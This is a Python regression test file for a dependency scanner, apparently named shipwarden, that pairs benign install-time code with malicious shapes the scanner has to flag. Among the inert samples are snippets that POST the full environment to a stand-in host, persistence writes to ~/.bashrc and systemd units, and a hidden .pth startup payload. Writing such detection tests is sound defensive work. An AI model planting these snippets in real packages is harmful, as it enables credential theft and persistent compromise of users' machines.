"""Regressions from scanning real install trees: patterns of legitimate install-time code
that must stay quiet, each next to the malicious shape that must still fire.

Every sample is inert text written for these tests (no package's code is copied);
nothing is executed. URLs use ``*.example.invalid`` hosts.
"""

from __future__ import annotations

from pathlib import Path

from shipwarden.core.findings import Tier
from shipwarden.deps.analysis.code import Context, analyze_code
from shipwarden.deps.analysis.model import Capability as C
from shipwarden.deps.analysis.verdict import judge
from shipwarden.deps.scan import scan_deps


def caps(language: str, code: str) -> set[tuple[C, bool]]:
    return {(e.capability, e.strong) for e in analyze_code(language, code, Context("sample")).evidence}


def rules(language: str, code: str) -> dict[str, str]:
    return {j.rule: j.tier.value for j in judge(analyze_code(language, code, Context("sample")).evidence)}


# --------------------------------------------------------------------------- environment copies


# A binary installer: copies the environment, tweaks it, hands it to `npm install`,
# and downloads a tarball. Nothing reads the environment as data.
JS_ENV_HANDED_ON = """
const cp = require("child_process");
const https = require("https");
function viaNpm(pkg) {
  const env = { ...process.env, npm_config_global: undefined };
  cp.execSync(`npm install ${pkg}`, { cwd: dir, stdio: "pipe", env });
}
function launch(options = {}) {
  const { args = [], env = process.env, timeout = 0 } = options;
  return cp.spawn(bin, args, { env, timeout });
}
function start(argv, env = process.env) { return cp.spawn(bin, argv, { env: env }); }
function run(args, opts) {
  const childEnv = Object.assign({}, process.env);
  if (opts.url) { childEnv.TOOL_URL = opts.url; }
  delete childEnv.TOOL_DEBUG;
  return cp.spawn(bin, args, { env: childEnv });
}
https.get("https://downloads.example.invalid/tool.tgz", (res) => res.pipe(out));
"""


def test_js_environment_copy_handed_to_a_child_is_not_a_sweep() -> None:
    assert not any(cap is C.ENV_SWEEP for cap, _ in caps("javascript", JS_ENV_HANDED_ON))
    assert rules("javascript", JS_ENV_HANDED_ON) == {}


def test_js_environment_copy_that_is_sent_is_still_theft() -> None:
    sent = """
    const cp = require("child_process");
    const env = { ...process.env };
    cp.spawn("node", ["x.js"], { env });
    fetch("https://collect.example.invalid/", { method: "POST", body: JSON.stringify(env) });
    """
    assert (C.ENV_SWEEP, True) in caps("javascript", sent)
    assert rules("javascript", sent)["deps-credential-theft"] == "P0"
    iterated = """
    const env = Object.assign({}, process.env);
    for (const k in env) lines.push(k + "=" + env[k]);
    require("https").request("https://collect.example.invalid/").end(lines.join("\\n"));
    """
    assert (C.ENV_SWEEP, True) in caps("javascript", iterated)
    # a copy never handed on is a sweep, as before
    assert (C.ENV_SWEEP, True) in caps("javascript", "const env = {...process.env};")


def test_py_environment_copy_handed_to_a_child_is_not_a_sweep() -> None:
    setup = (
        "import os, subprocess, urllib.request\n"
        "env = os.environ.copy()\n"
        "env['CFLAGS'] = '-O2'\n"
        "if 'CC' in env:\n    env.pop('CC')\n"
        "urllib.request.urlretrieve('https://downloads.example.invalid/lib.tgz', 'lib.tgz')\n"
        "subprocess.check_call(['make'], env=env)\n"
    )
    assert not any(cap is C.ENV_SWEEP for cap, _ in caps("python", setup))
    assert rules("python", setup) == {}
    sent = (
        "import os, json, subprocess, requests\n"
        "env = dict(os.environ)\n"
        "subprocess.run(['make'], env=env)\n"
        "requests.post('https://collect.example.invalid/', data=json.dumps(env))\n"
    )
    assert rules("python", sent)["deps-credential-theft"] == "P0"


# --------------------------------------------------------------------------- persistence locations


# A CLI wrapper's service module, loaded by its install script: it names service
# files only to check for, read and remove them; the binary installs the service.
JS_SERVICE_PATHS_READ_ONLY = """
const fs = require("fs");
const os = require("os");
const { spawnSync } = require("child_process");
const PATHS = {
  plist: `/Library/LaunchDaemons/${id}.plist`,
  unit: `/etc/systemd/system/${name}.service`,
};
function exists() { return fs.existsSync(PATHS.unit) || fs.existsSync(PATHS.plist); }
function log() { return fs.readFileSync(PATHS.unit, "utf8"); }
function install() { return spawnSync(bin, ["service", "install"]); }
"""


def test_persistence_paths_only_named_are_not_a_verdict() -> None:
    assert not any(cap is C.PERSISTENCE for cap, _ in caps("javascript", JS_SERVICE_PATHS_READ_ONLY))
    assert "deps-persistence" not in rules("javascript", JS_SERVICE_PATHS_READ_ONLY)
    py = "import os\nUNIT = '/etc/systemd/system/agent.service'\nif os.path.exists(UNIT):\n    print(open(UNIT).read())\n"
    assert "deps-persistence" not in rules("python", py)


def test_persistence_paths_written_still_fire() -> None:
    computed_write = JS_SERVICE_PATHS_READ_ONLY + "fs.writeFileSync(PATHS.unit, unitText);\n"
    assert rules("javascript", computed_write)["deps-persistence"] == "P0"
    built_shell = (
        'const cp = require("child_process"); const rc = "~/.bashrc";\n'
        'cp.execSync("echo " + line + " >> " + target);\n'
    )
    assert rules("javascript", built_shell)["deps-persistence"] == "P1"
    for script in (
        "cp ./agent.sh ~/.bashrc",
        "echo 'curl x | sh' | tee -a $HOME/.zshrc",
        "install -m 644 agent.service /etc/systemd/system/agent.service",
        "cp -t ~/.config/systemd/user agent.service",
    ):
        assert rules("shell", script).get("deps-persistence") == "P0", script
    py = "import shutil, os\nshutil.copy('agent.sh', os.path.expanduser('~/.bashrc'))\n"
    assert rules("python", py)["deps-persistence"] == "P0"


# --------------------------------------------------------------------------- .pth start-up code


def _site(tmp_path: Path) -> Path:
    site = tmp_path / "env/lib/python3.11/site-packages"
    site.mkdir(parents=True)
    return site


def _dist(site: Path, name: str, files: list[str]) -> None:
    info = site / f"{name}-1.0.dist-info"
    info.mkdir()
    (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n")
    (info / "RECORD").write_text("".join(f"{f},sha256=x,1\n" for f in files) + f"{info.name}/RECORD,,\n")


def test_owned_env_gated_pth_whose_code_was_read_is_inventory(tmp_path: Path) -> None:
    site = _site(tmp_path)
    # a tracer's opt-in hook: only does something when its variable is set
    (site / "a1_tracer.pth").write_text(
        "import sys; exec('import os\\nif os.getenv(\"TRACER_START\"):\\n import tracer\\n tracer.start()')\n"
    )
    (site / "tracer").mkdir()
    (site / "tracer/__init__.py").write_text("from .core import start\n")
    (site / "tracer/core.py").write_text("import sys\n\ndef start():\n    sys.settrace(None)\n")
    _dist(site, "tracer", ["a1_tracer.pth", "tracer/__init__.py", "tracer/core.py"])
    result = scan_deps(tmp_path)
    finding = next(f for f in result.report.findings if f.properties.get("hook") == "a1_tracer.pth")
    assert finding.rule_id == "deps-install-script" and finding.tier is Tier.P2
    record = next(r for r in result.hooks if r.hook.event == "a1_tracer.pth")
    assert any(p.endswith("tracer/core.py") for p in record.hook.file_hashes)  # relative import followed


def test_owned_pth_importing_code_that_cannot_be_read_stays_p1(tmp_path: Path) -> None:
    site = _site(tmp_path)
    (site / "fastboot.pth").write_text("import fastboot_native\n")
    (site / "fastboot_native.cpython-311-x86_64-linux-gnu.so").write_bytes(b"\x7fELF")
    _dist(site, "fastboot", ["fastboot.pth", "fastboot_native.cpython-311-x86_64-linux-gnu.so"])
    result = scan_deps(tmp_path)
    finding = next(f for f in result.report.findings if f.properties.get("hook") == "fastboot.pth")
    assert finding.rule_id == "deps-pth-startup-code" and finding.tier is Tier.P1
    assert "not analysed" in finding.message


def test_pth_payload_behind_a_relative_import_is_found(tmp_path: Path) -> None:
    site = _site(tmp_path)
    (site / "helper_init.pth").write_text("import helper\n")
    (site / "helper").mkdir()
    (site / "helper/__init__.py").write_text("from ._boot import go\ngo()\n")
    (site / "helper/_boot.py").write_text(
        "import os, json, urllib.request\n"
        "def go():\n"
        "    body = json.dumps(dict(os.environ)).encode()\n"
        "    urllib.request.urlopen(urllib.request.Request('https://collect.example.invalid/', data=body))\n"
    )
    _dist(site, "helper", ["helper_init.pth", "helper/__init__.py", "helper/_boot.py"])
    result = scan_deps(tmp_path)
    tiers = {f.rule_id: f.tier for f in result.report.findings if f.properties.get("hook") == "helper_init.pth"}
    assert tiers.get("deps-credential-theft") is Tier.P0


# --------------------------------------------------------------------------- stable, honest rendering


SHADOWED = """
const fs = require("fs"), path = require("path"), os = require("os");
var target = "notes.txt";
function plant(line) {
  var target = path.join(os.homedir(), ".bashrc");
  fs.appendFileSync(target, line);
}
var extra = compute(); extra += "/hooks";
fs.writeFileSync(path.resolve(extra, "x"), "y");
"""


def test_js_results_do_not_depend_on_capture_order() -> None:
    # tree-sitter returns the captures of a multi-pattern query in no stable order
    runs = {
        tuple(sorted((e.capability.value, e.line, e.strong, e.detail) for e in analyze_code("javascript", SHADOWED, Context("s")).evidence))
        for _ in range(12)
    }
    assert len(runs) == 1


def test_js_name_bound_twice_is_unknown_not_its_first_value() -> None:
    # rendering `target` to "notes.txt" would hide the nested write to ~/.bashrc
    assert rules("javascript", SHADOWED)["deps-persistence"] == "P0"


# --------------------------------------------------------------------------- Python sources that build nothing


def test_a_locked_local_wheel_is_not_built_from_source(tmp_path: Path) -> None:
    """poetry's fixture missing_file_dependency locks a local .whl; a folder of the same name in another
    lockfile builds (python-poetry/poetry@f46702336862f30050d5c641d5ed6f7568ded793 tests/fixtures)."""
    for folder, source in (("wheel", 'type = "file"\nurl = "dist/pkg-0.1.0-py3-none-any.whl"'),
                           ("tree", 'type = "directory"\nurl = "../pkg"')):
        (tmp_path / folder).mkdir()
        (tmp_path / folder / "poetry.lock").write_text(
            f'[[package]]\nname = "pkg"\nversion = "0.1.0"\nfiles = []\n\n[package.source]\n{source}\n\n'
            '[metadata]\nlock-version = "2.0"\n')
    result = scan_deps(tmp_path)
    by_lock = {f.primary.path: f.tier for f in result.report.findings if f.rule_id == "deps-non-registry-source"}
    assert by_lock == {"wheel/poetry.lock": Tier.P2}  # a folder of the project is no outside source
    assert [r.hook.location.path for r in result.hooks] == ["tree/poetry.lock"]  # but it builds


def test_an_orphan_pth_that_only_imports_the_standard_library_is_p2(tmp_path: Path) -> None:
    """poetry's installed-site fixture has editable-with-import.pth = `import os` (same commit as above)."""
    site = tmp_path / "lib" / "python3.11" / "site-packages"
    site.mkdir(parents=True)
    (site / "only-stdlib.pth").write_text("import os\n")
    (site / "orphan-third-party.pth").write_text("import telemetry_boot_hook\n")
    findings = {f.properties["hook"]: (f.rule_id, f.tier) for f in scan_deps(tmp_path).report.findings}
    assert findings["only-stdlib.pth"] == ("deps-install-script", Tier.P2)
    assert findings["orphan-third-party.pth"] == ("deps-pth-startup-code", Tier.P1)
